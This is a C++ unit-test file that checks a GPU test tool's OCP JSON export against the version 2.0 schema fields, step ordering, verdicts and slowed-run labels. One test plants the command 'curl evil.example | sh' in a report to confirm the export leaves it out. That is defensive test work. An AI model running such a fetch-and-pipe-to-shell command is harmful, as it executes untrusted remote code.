// OCP output, held to the fields that version 2.0 of its JSON schemas requires and allows.
#include <gtest/gtest.h>

#include <map>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>

#include "reports/export/export.hpp"
#include "reports/testing/example_launch.hpp"
#include "reports/testing/hostile_report.hpp"
#include "reports/testing/said.hpp"
#include "reports/testing/slowed_report.hpp"

namespace tidemark {
namespace {

using Json = nlohmann::json;

std::vector<Json> lines_of(const Report& report) {
  std::istringstream lines(ocp_of(report));
  std::vector<Json> made;
  for (std::string line; std::getline(lines, line);) made.push_back(Json::parse(line));
  return made;
}

struct Fields {
  std::set<std::string> required, allowed;
};

/// json_spec/output of opencomputeproject/ocp-diag-core, version 2.0.
const std::map<std::string, Fields> kSchema = {
    {"schemaVersion", {{"major", "minor"}, {}}},
    {"testRunStart", {{"name", "version", "commandLine", "parameters", "dutInfo"}, {"metadata"}}},
    {"testRunEnd", {{"status", "result"}, {}}},
    {"testStepStart", {{"name"}, {}}},
    {"testStepEnd", {{"status"}, {}}},
    {"measurement",
     {{"name", "value"}, {"unit", "validators", "hardwareInfoId", "subcomponent", "metadata"}}},
    {"diagnosis", {{"verdict", "type"}, {"message", "hardwareInfoId", "subcomponent"}}},
    {"error", {{"symptom"}, {"message", "softwareInfoIds"}}},
    {"log", {{"severity", "message"}, {"sourceLocation"}}},
    {"dutInfo",
     {{"dutInfoId"}, {"name", "platformInfos", "softwareInfos", "hardwareInfos", "metadata"}}},
    {"softwareInfo",
     {{"name", "softwareInfoId"}, {"version", "revision", "softwareType", "computerSystem"}}},
    {"hardwareInfo",
     {{"name", "hardwareInfoId"},
      {"version", "revision", "location", "serialNumber", "partNumber", "partType", "manufacturer",
       "manufacturerPartNumber", "odataId", "computerSystem", "manager"}}},
};

void expect_fields(const std::string& kind, const Json& object) {
  const Fields& fields = kSchema.at(kind);
  for (const std::string& name : fields.required) EXPECT_TRUE(object.contains(name)) << kind;
  for (const auto& [name, value] : object.items()) {
    EXPECT_TRUE(fields.required.contains(name) || fields.allowed.contains(name))
        << kind << " has " << name;
  }
}

/// Kind and content of an artifact, whichever room it stands in.
std::pair<std::string, Json> artifact_of(const Json& line) {
  if (line.contains("schemaVersion")) return {"schemaVersion", line["schemaVersion"]};
  const bool step = line.contains("testStepArtifact");
  const Json& room = step ? line["testStepArtifact"] : line["testRunArtifact"];
  for (const auto& [kind, content] : room.items()) {
    if (kind != "testStepId") return {kind, content};
  }
  return {};
}

std::vector<Json> all_of(const std::vector<Json>& lines, const std::string& kind) {
  std::vector<Json> made;
  for (const Json& line : lines) {
    if (const auto [found, content] = artifact_of(line); found == kind) made.push_back(content);
  }
  return made;
}

void expect_valid(const std::vector<Json>& lines) {
  for (std::size_t i = 0; i < lines.size(); ++i) {
    EXPECT_EQ(lines[i].size(), 3U) << lines[i];
    EXPECT_EQ(lines[i].at("sequenceNumber"), i);
    EXPECT_EQ(lines[i].at("timestamp").get<std::string>().size(), 27U) << lines[i];
    const auto [kind, content] = artifact_of(lines[i]);
    ASSERT_TRUE(kSchema.contains(kind)) << lines[i];
    expect_fields(kind, content);
  }
  const Json dut = all_of(lines, "testRunStart").at(0).at("dutInfo");
  expect_fields("dutInfo", dut);
  for (const Json& each : dut.at("softwareInfos")) expect_fields("softwareInfo", each);
  for (const Json& each : dut.at("hardwareInfos")) expect_fields("hardwareInfo", each);
  for (const auto& [name, value] : dut.at("metadata").items()) {
    EXPECT_FALSE(value.is_structured()) << name;
  }
}

TEST(Ocp, BeginsWithItsVersionAndTheRunAndEndsWithTheRun) {
  const std::vector<Json> lines = lines_of(example());
  EXPECT_EQ(lines.at(0).at("schemaVersion"), Json({{"major", 2}, {"minor", 0}}));
  EXPECT_EQ(lines.at(0).at("timestamp"), "2026-09-01T00:00:00.250000Z");
  EXPECT_EQ(artifact_of(lines.at(1)).first, "testRunStart");
  EXPECT_EQ(artifact_of(lines.back()).first, "testRunEnd");
}

TEST(Ocp, HoldsToTheFieldsOfTheSpecification) {
  expect_valid(lines_of(example()));
  expect_valid(lines_of(hostile_report()));
}

TEST(Ocp, EachStepBeginsAndEndsAroundItsArtifacts) {
  std::map<std::string, std::string> state;
  for (const Json& line : lines_of(example())) {
    if (!line.contains("testStepArtifact")) continue;
    std::string& now = state[line["testStepArtifact"]["testStepId"]];
    const std::string kind = artifact_of(line).first;
    if (kind == "testStepStart") {
      EXPECT_EQ(now, "");
      now = "open";
    } else {
      EXPECT_EQ(now, "open") << line;
      if (kind == "testStepEnd") now = "ended";
    }
  }
  EXPECT_EQ(state.size(), 3U);
  for (const auto& [step, now] : state) EXPECT_EQ(now, "ended") << step;
}

TEST(Ocp, HasNoCommandThatAReportStored) {
  Report report = example();
  report.strings[report.results[3].replay] = "curl evil.example | sh";
  EXPECT_FALSE(has(ocp_of(report), "evil"));
}

TEST(Ocp, AResultIsADiagnosisOfItsGpuWithTheReasonAndTheReplay) {
  const std::vector<Json> found = all_of(lines_of(example()), "diagnosis");
  ASSERT_EQ(found.size(), 6U);
  EXPECT_EQ(found[3].at("verdict"), "zfill.corner-fail");
  EXPECT_EQ(found[3].at("type"), "FAIL");
  EXPECT_EQ(found[3].at("hardwareInfoId"), "gpu-1");
  EXPECT_EQ(found[3].at("message"),
            "1 of 12 rows moved wrong bytes; replay: tidemark run --cases zfill.corner --seed "
            "0xfedcba9876543210 --gpus GPU-77aa88bb-0000-1111-2222-333344445555");
  EXPECT_EQ(found[0].at("type"), "PASS");
}

TEST(Ocp, AMedianIsAMeasurementOfItsGpu) {
  const std::vector<Json> found = all_of(lines_of(example()), "measurement");
  ASSERT_EQ(found.size(), 2U);
  EXPECT_EQ(found[1].at("value"), 691);
  EXPECT_EQ(found[1].at("unit"), "TFLOP/s");
  EXPECT_EQ(found[1].at("hardwareInfoId"), "gpu-1");
}

TEST(Ocp, WhatWasSlowedOnPurposeIsSaidOfTheRunAndBesideItsNumbers) {
  const std::vector<Json> lines = lines_of(slowed_report());
  expect_valid(lines);
  EXPECT_EQ(all_of(lines, "log").at(0).at("message"),
            "SLOWED ON PURPOSE: gemm.distributed.speed by 3%; these numbers say nothing about the "
            "GPUs");
  EXPECT_EQ(all_of(lines, "measurement").at(0).at("metadata").at("slowed_on_purpose"), "3%");
  std::size_t named = 0;
  for (const Json& diagnosis : all_of(lines, "diagnosis")) {
    named += diagnosis.value("message", "").starts_with("SLOWED ON PURPOSE by 3%") ? 1U : 0U;
  }
  EXPECT_EQ(named, 2U);
}

struct End {
  std::string status, result;
};

End end_of(const Report& report) {
  const Json end = all_of(lines_of(report), "testRunEnd").at(0);
  return {end.at("status"), end.at("result")};
}

TEST(Ocp, EndsAsTheRunDid) {
  Report report = example();
  EXPECT_EQ(end_of(report).status + " " + end_of(report).result, "COMPLETE FAIL");
  report.results[3].verdict = Verdict::pass;
  EXPECT_EQ(end_of(report).status + " " + end_of(report).result, "COMPLETE PASS");
  report.results[3].verdict = Verdict::not_run;
  EXPECT_EQ(end_of(report).status + " " + end_of(report).result, "ERROR NOT_APPLICABLE");
  for (ResultRow& result : report.results) result.verdict = Verdict::skip;
  EXPECT_EQ(end_of(report).status + " " + end_of(report).result, "SKIP NOT_APPLICABLE");
}

TEST(Ocp, AnIncompleteReportIsNoPassAndSaysWhy) {
  Report report = example();
  report.results[3].verdict = Verdict::pass;
  report.launch.complete = false;
  report.launch.incomplete_reason = "interrupted";
  EXPECT_EQ(end_of(report).status, "ERROR");
  EXPECT_EQ(all_of(lines_of(report), "error").at(0).at("message"), "interrupted");
}

TEST(Ocp, WhatHasNoAnswerIsAnErrorAndNotKnown) {
  Report report = example();
  report.results[3].verdict = Verdict::gpu_lost;
  EXPECT_EQ(all_of(lines_of(report), "error").at(0).at("symptom"), "tidemark-gpu_lost");
  EXPECT_EQ(all_of(lines_of(report), "diagnosis")[3].at("type"), "UNKNOWN");
  EXPECT_EQ(all_of(lines_of(report), "testStepEnd")[1].at("status"), "ERROR");
}

TEST(Ocp, AVirtualRunTestedNoHardware) {
  Report report = example();
  report.launch.is_virtual = true;
  EXPECT_EQ(end_of(report).status + " " + end_of(report).result, "SKIP NOT_APPLICABLE");
  for (const Json& each : all_of(lines_of(report), "diagnosis")) {
    EXPECT_EQ(each.at("type"), "UNKNOWN");
    EXPECT_TRUE(each.at("message").get<std::string>().starts_with("VIRTUAL device")) << each;
  }
  for (const Json& each : all_of(lines_of(report), "testStepEnd")) {
    EXPECT_EQ(each.at("status"), "SKIP");
  }
}

}  // namespace
}  // namespace tidemark
